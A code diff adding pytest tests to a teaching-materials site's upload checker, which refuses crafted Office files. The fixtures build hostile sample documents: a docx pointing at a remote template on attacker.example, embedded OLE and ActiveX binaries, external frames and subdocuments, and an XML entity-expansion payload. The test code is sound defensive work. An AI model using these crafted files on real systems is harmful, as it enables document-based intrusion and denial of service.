@@ -6,6 +6,9 @@ message that names the file and says what to do, by check_upload itself, by Wagt
 document and image forms, and by the multiple uploaders (which answer in JSON).
 """
 
+import io
+import zipfile
+
 import pytest
 from django.core.exceptions import ValidationError
 from django.urls import reverse
@@ -283,3 +286,173 @@ def test_admin_upload_pages_still_open(url_name, editor_client):
     response = editor_client.get(reverse(url_name))
     assert response.status_code == 200
     assert "20.0" in response.content.decode()  # the limit, in MB, from the one setting
+
+
+# --- Office files that reach out or carry programs (library/uploads.py) -----------------
+
+RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def relationships(*entries: tuple[str, str, str]) -> str:
+    """A relationships part: (type, target, target mode) for each relationship."""
+    body = "".join(
+        f'<Relationship Id="rId{number}" Type="{DOC_RELS}/{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for number, (kind, target, mode) in enumerate(entries, start=1)
+    )
+    header = '<?xml version="1.0" encoding="UTF-8"?>'
+    return f'{header}<Relationships xmlns="{RELS}">{body}</Relationships>'
+
+
+def office_file(kind: str, parts: dict[str, str | bytes]) -> bytes:
+    """A real Office zip (as sample_files makes it) with `parts` added."""
+    buffer = io.BytesIO(ooxml_bytes(kind))
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return buffer.getvalue()
+
+
+REMOTE_TEMPLATE = {
+    "word/_rels/settings.xml.rels": relationships(
+        ("attachedTemplate", "https://attacker.example/template.dotm", "External")
+    )
+}
+
+
+def test_a_docx_pointing_at_a_remote_template_is_refused(small_limit):
+    error = _refusal(upload("lesson.docx", office_file("docx", REMOTE_TEMPLATE)))
+    assert error.code == "external_link"
+    assert "lesson.docx loads something from outside the file" in error.messages[0]
+
+
+OLE_PARTS = {
+    "docx": ("word", "document.xml"),
+    "pptx": ("ppt", "slides/slide1.xml"),
+    "xlsx": ("xl", "worksheets/sheet1.xml"),
+}
+
+
+@pytest.mark.parametrize("kind", OLE_PARTS)
+def test_an_embedded_ole_object_is_refused_in_every_office_format(kind, small_limit):
+    folder, part = OLE_PARTS[kind]
+    rels_name = f"{folder}/{part.rpartition('/')[0]}/_rels/{part.rpartition('/')[2]}.rels"
+    ole = office_file(
+        kind,
+        {
+            rels_name.replace("//", "/"): relationships(
+                ("oleObject", "../embeddings/oleObject1.bin", "")
+            ),
+            f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
+        },
+    )
+    error = _refusal(upload(f"game.{kind}", ole))
+    assert error.code == "embedded_object"
+    assert "OLE or ActiveX" in error.messages[0]
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        {"word/embeddings/oleObject7.bin": b"\xd0\xcf\x11\xe0"},  # the part, unreferenced
+        {"word/_rels/document.xml.rels": relationships(("oleObject", "x.bin", ""))},
+        {"word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0"},
+        {"word/_rels/document.xml.rels": relationships(("control", "a.xml", ""))},
+    ],
+    ids=["ole part", "ole relationship", "activex part", "activex relationship"],
+)
+def test_embedded_programs_are_refused_by_part_or_by_relationship(parts, small_limit):
+    if "control" in str(parts):
+        # ActiveX: the control's own part points at its binary.
+        parts = {
+            **parts,
+            "word/activeX/_rels/activeX1.xml.rels": relationships(
+                ("activeXControlBinary", "activeX1.bin", "")
+            ),
+        }
+    assert _refusal(upload("game.docx", office_file("docx", parts))).code == "embedded_object"
+
+
+@pytest.mark.parametrize(
+    ("kind", "rels_name", "relationship"),
+    [
+        (
+            "pptx",
+            "ppt/slides/_rels/slide1.xml.rels",
+            ("image", "https://x.example/p.png", "External"),
+        ),
+        (
+            "xlsx",
+            "xl/externalLinks/_rels/externalLink1.xml.rels",
+            ("externalLinkPath", "file:///C:/marks.xlsx", "External"),
+        ),
+        (
+            "docx",
+            "word/_rels/document.xml.rels",
+            ("subDocument", "\\\\server\\share\\a.docx", "External"),
+        ),
+        (
+            "docx",
+            "word/_rels/webSettings.xml.rels",
+            ("frame", "https://x.example/frame", "External"),
+        ),
+    ],
+    ids=["external picture", "external data source", "external subdocument", "external frame"],
+)
+def test_any_external_target_but_a_text_link_is_refused(kind, rels_name, relationship, small_limit):
+    crafted = office_file(kind, {rels_name: relationships(relationship)})
+    assert _refusal(upload(f"lesson.{kind}", crafted)).code == "external_link"
+
+
+def test_links_in_the_text_and_an_embedded_chart_workbook_are_fine(small_limit):
+    """A worksheet linking to a song's video and a Word chart (which carries its data as
+    an embedded .xlsx) are ordinary teaching files."""
+    ordinary = office_file(
+        "docx",
+        {
+            "word/_rels/document.xml.rels": relationships(
+                ("hyperlink", "https://www.youtube.com/watch?v=abc", "External"),
+                ("chart", "charts/chart1.xml", ""),
+            ),
+            "word/charts/_rels/chart1.xml.rels": relationships(
+                ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", "")
+            ),
+            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml_bytes("xlsx"),
+        },
+    )
+    assert check_upload(upload("weather-song.docx", ordinary)).kind == "document"
+
+
+def test_a_relationships_part_with_entity_tricks_is_refused_unread(small_limit):
+    laughs = (
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
+        f'<Relationships xmlns="{RELS}"><Relationship Id="r" Type="&b;" Target="x"/>'
+        "</Relationships>"
+    )
+    crafted = office_file("docx", {"word/_rels/document.xml.rels": laughs})
+    assert _refusal(upload("lesson.docx", crafted)).code == "unreadable_office"
+
+
+def test_the_admin_refuses_a_remote_template_too(editor_client, small_limit):
+    response = editor_client.post(
+        reverse("wagtaildocs:add_multiple"),
+        {"files[]": upload("lesson.docx", office_file("docx", REMOTE_TEMPLATE))},
+    )
+    assert response.json()["success"] is False
+    assert "loads something from outside the file" in response.json()["error_message"]
+    assert not get_document_model().objects.exists()
+
+
+def test_file_extensions_are_listed_once():
+    """The material page's file icons and every upload route read the one allow list."""
+    from django.conf import settings
+
+    from library.models.pages import FILE_KINDS
+    from library.uploads import ALLOWED
+
+    assert set(FILE_KINDS) == set(ALLOWED)
+    assert set(settings.WAGTAILDOCS_EXTENSIONS) | set(settings.WAGTAILIMAGES_EXTENSIONS) == set(
+        ALLOWED
+    )
